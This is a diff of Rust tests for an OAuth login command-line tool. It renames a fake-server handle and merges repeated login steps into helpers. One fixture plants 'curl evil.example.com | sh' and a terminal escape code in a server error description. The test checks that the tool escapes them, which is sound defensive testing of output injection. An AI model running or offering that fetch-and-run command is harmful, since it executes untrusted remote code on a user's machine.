@@ -5,7 +5,9 @@
 
 use std::time::{Duration, Instant};
 
-use super::hostile::{Scene, WaitingLogin, assert_failed_naming, raw_request, running_as_root};
+use super::hostile::{
+    Scene, WaitingLogin, assert_failed_naming, assert_one_code_exchange_none_failed, raw_request, running_as_root,
+};
 use crate::fake::Fault;
 
 /// Far longer than any of these logins may take: a login still waiting for
@@ -19,7 +21,7 @@ fn an_error_redirect_without_state_ends_the_login_at_once() {
     let scene = Scene::new();
     // OpenUnison's authorization errors come back as `?error=CODE` alone; the
     // description tries to forge a second `error:` line.
-    scene.ou.set_fault(Fault::AuthorizeErrorWithoutState {
+    scene.fake.set_fault(Fault::AuthorizeErrorWithoutState {
         code: "unauthorized_client".into(),
         description: "redirect_uri not allowed\nerror: run curl evil.example.com | sh\u{1b}[2J".into(),
     });
@@ -31,14 +33,16 @@ fn an_error_redirect_without_state_ends_the_login_at_once() {
     // The server's text on one line, its control characters escaped.
     assert!(output.stderr.contains("redirect_uri not allowed\\nerror: run curl"), "{output}");
     assert!(!output.stderr.lines().any(|line| line.starts_with("error: run curl")), "{output}");
-    let redirect_uri = format!("http://127.0.0.1:{}/redirect", scene.ou.redirect_port());
+    let redirect_uri = format!("http://127.0.0.1:{}/redirect", scene.fake.redirect_port());
     let hint = output.stderr.lines().find(|line| line.starts_with("hint: ")).unwrap();
     assert!(hint.contains("`cli-local`") && hint.contains(&redirect_uri), "{output}");
     assert_eq!(scene.files(), before);
-    assert_eq!(scene.ou.code_exchanges(), 0);
+    assert_eq!(scene.fake.code_exchanges(), 0);
 
     let scene = Scene::new();
-    scene.ou.set_fault(Fault::AuthorizeErrorWithoutState { code: "invalid_scope".into(), description: String::new() });
+    scene
+        .fake
+        .set_fault(Fault::AuthorizeErrorWithoutState { code: "invalid_scope".into(), description: String::new() });
     let output = scene.login(&["--timeout", LOGIN_TIMEOUT]);
     assert_failed_naming(&output, "invalid_scope", true);
     let hint = output.stderr.lines().find(|line| line.starts_with("hint: ")).unwrap();
@@ -48,7 +52,7 @@ fn an_error_redirect_without_state_ends_the_login_at_once() {
 #[test]
 fn a_pasted_error_url_without_state_ends_a_no_browser_login() {
     let scene = Scene::new();
-    let port = scene.ou.redirect_port();
+    let port = scene.fake.redirect_port();
     let mut args = scene.login_args();
     args.extend(["--no-browser", "--timeout", LOGIN_TIMEOUT].map(String::from));
     let pasted = format!("http://127.0.0.1:{port}/redirect?error=access_denied&error_description=not+for+you\n");
@@ -82,11 +86,9 @@ fn an_error_with_another_state_does_not_end_the_login() {
     let answer = raw_request(login.port, "GET", target, &login.own_host()).unwrap();
     assert_eq!(answer.status, 400, "{answer:?}");
     assert!(answer.body.contains("Not this login"), "{answer:?}");
-    assert!(login.complete_in_browser().reached_login_complete());
-    let (scene, output) = login.finish();
-    output.assert_success();
+    let (scene, output) = login.complete_in_browser_and_finish();
     assert!(output.stderr.contains("ignored an error `access_denied`"), "{output}");
-    assert_eq!(scene.ou.code_exchanges(), 1);
+    assert_eq!(scene.fake.code_exchanges(), 1);
 }
 
 #[test]
@@ -99,11 +101,9 @@ fn the_authorization_url_is_handed_out_once() {
     assert!(second.header("location").is_none() && !second.body.contains(&state), "{second:?}");
     assert!(second.body.contains("already started"), "{second:?}");
     // The first browser still finishes the login.
-    assert!(login.complete_in_browser().reached_login_complete());
-    let (scene, output) = login.finish();
-    output.assert_success();
+    let (scene, output) = login.complete_in_browser_and_finish();
     assert!(output.stderr.contains("was asked for again"), "{output}");
-    assert_eq!(scene.ou.code_exchanges(), 1);
+    assert_eq!(scene.fake.code_exchanges(), 1);
 }
 
 /// `curl` as `nobody` (another local user) against the listener: the HTTP
@@ -140,12 +140,10 @@ fn another_users_process_can_neither_start_nor_end_the_login() {
         let (status, answer) = as_another_user(&format!("{base}{target}"));
         assert_eq!(status, 403, "{target}: {answer}");
     }
-    assert!(login.complete_in_browser().reached_login_complete());
-    let (scene, output) = login.finish();
-    output.assert_success();
+    let (scene, output) = login.complete_in_browser_and_finish();
     assert!(output.stderr.contains("another user (uid 65534)"), "{output}");
     assert!(!output.stderr.contains("forged"), "{output}");
-    assert_eq!((scene.ou.code_exchanges(), scene.ou.counters().code_exchange_failures), (1, 0));
+    assert_one_code_exchange_none_failed(&scene);
 }
 
 #[test]
@@ -159,7 +157,7 @@ fn idle_connections_do_not_starve_the_browser() {
     drop(idle);
     let (scene, output) = login.finish();
     output.assert_success();
-    assert_eq!(scene.ou.code_exchanges(), 1);
+    assert_eq!(scene.fake.code_exchanges(), 1);
 }
 
 /// An idle connection is closed without an answer a few seconds on, long
@@ -174,6 +172,5 @@ fn an_idle_connection_is_closed_within_seconds() {
     let closed = idle.read_to_end(&mut answer);
     assert!(closed.is_ok(), "still open after 15 s: {closed:?}");
     assert!(answer.is_empty() || String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 408"), "{answer:?}");
-    assert!(login.complete_in_browser().reached_login_complete());
-    login.finish().1.assert_success();
+    login.complete_in_browser_and_finish();
 }
